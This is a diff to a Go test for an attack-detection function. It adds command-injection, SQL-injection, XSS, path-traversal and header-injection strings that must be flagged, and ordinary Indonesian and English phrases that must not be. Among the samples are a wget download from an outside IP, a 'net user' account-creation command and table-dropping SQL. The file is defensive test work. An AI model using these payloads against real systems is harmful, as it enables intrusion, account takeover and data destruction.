@@ -12,7 +12,9 @@ func TestCheck(t *testing.T) {
 		"127.0.0.1 && whoami": CommandInjection, "\nid": CommandInjection, ";cat /etc/passwd": CommandInjection,
 		"| type c:\\boot.ini": CommandInjection, "& net user hacker P4ss /add": CommandInjection,
 		";cat${IFS}/etc/passwd": CommandInjection, "ping -i 30 127.0.0.1": CommandInjection,
-		"ping -n 10 localhost": CommandInjection, "|/usr/bin/id": CommandInjection,
+		"ping -n 10 localhost": CommandInjection, "whoami": CommandInjection, "ipconfig": CommandInjection,
+		"ls -la": CommandInjection, "cat /etc/passwd": CommandInjection, "wget http://198.51.100.7/x.sh": CommandInjection,
+		"cmd /c dir": CommandInjection, "uname -a": CommandInjection, "|/usr/bin/id": CommandInjection,
 		"/....//....//web-inf/web.xml": PathTraversal, "....//....//etc/passwd": PathTraversal,
 		"..\\..\\windows\\win.ini": PathTraversal, "..;/..;/etc/passwd": PathTraversal, ".../.../etc": PathTraversal,
 		"..2f..2f..2fetc2fpasswd": PathTraversal, "\u2025\uff0f\u2025\uff0fetc\uff0fpasswd": PathTraversal,
@@ -20,6 +22,11 @@ func TestCheck(t *testing.T) {
 		"'":        SQLInjection, "''": SQLInjection, "')": SQLInjection, "'--": SQLInjection, "--+": SQLInjection,
 		"/*": SQLInjection, ";--": SQLInjection, "' #": SQLInjection, "\"": SQLInjection,
 		"&#x3C": CrossSiteScripting, "&#60;script": CrossSiteScripting, "\\u003cscript\\u003e": CrossSiteScripting,
+		"1 and sleep(5)": SQLInjection, "admin'--": SQLInjection, "1' order by 3--": SQLInjection,
+		"1 union select 1,2": SQLInjection, "AND 4821=4821": SQLInjection, "OR NOT 4821=4821": SQLInjection,
+		"HAVING 1234=1234": SQLInjection, "or true--": SQLInjection, "1 ORDER BY 10": SQLInjection,
+		"ORDER BY 10--": SQLInjection, "ORDER BY 1 DESC--": SQLInjection, "1') order by 4#": SQLInjection, "select * from pg_shadow;": SQLInjection, "' or 'a'='a": SQLInjection, "1;drop table users": SQLInjection,
+		"<script>alert(1)</script>": CrossSiteScripting, "\"><img src=x onerror=alert(1)>": CrossSiteScripting,
 		"\r\nSet-Cookie: a=b": HeaderInjection, "x\nLocation: http://x.example/": HeaderInjection,
 	}
 	for v, want := range attacks {
@@ -39,7 +46,11 @@ func TestCheck(t *testing.T) {
 		"../berita", "Jl. K.H. Agus Salim No.5", "c/ academia, 59, 3", "Rp 1.500.000", "P.O. Box 1234", "...",
 		"tunggu... ya", "Saya suka \"quick count\"", "AT&T", "harga $5 & ongkir gratis", "pa$$word", "Johnson & Johnson",
 		"Catatan:\nberkas lengkap", "Dr. Ir. H. Joko Widodo, M.Sc.", "jadwal pemilu 2024; lokasi tps", "C:\\new\\nama.docx", "Rp 1..2 juta", "‥ dan ‥",
-		"-", "--", "---", "#", "#1", "O'Brien", ":)", ":-(", "()", "*****", "...", "&#39;", "Tom &#38; Jerry", "&#601;"}
+		"-", "--", "---", "#", "#1", "O'Brien", ":)", ":-(", "()", "*****", "...", "&#39;", "Tom &#38; Jerry", "&#601;",
+		"select your region", "order by date", "Please select one option", "1 < 2", "a=b", "(hasil) pemilu", "x > y",
+		"or something like that", "and 5 more", "or 2", "and/or", "And then (finally) it ended",
+		"order by nama, umur", "select 2 kandidat", "Union Jack", "order by harga desc", "order by 2 pm",
+		"ls of cards", "whoami quiz", "wget alternative for windows", "python", "echo", "id", "cat lucu", "type A/B"}
 	for _, v := range ordinary {
 		if got := Check("/cari?q="+url.QueryEscape(v), nil); len(got) > 0 {
 			t.Errorf("%q: found %v in an ordinary value", v, got)
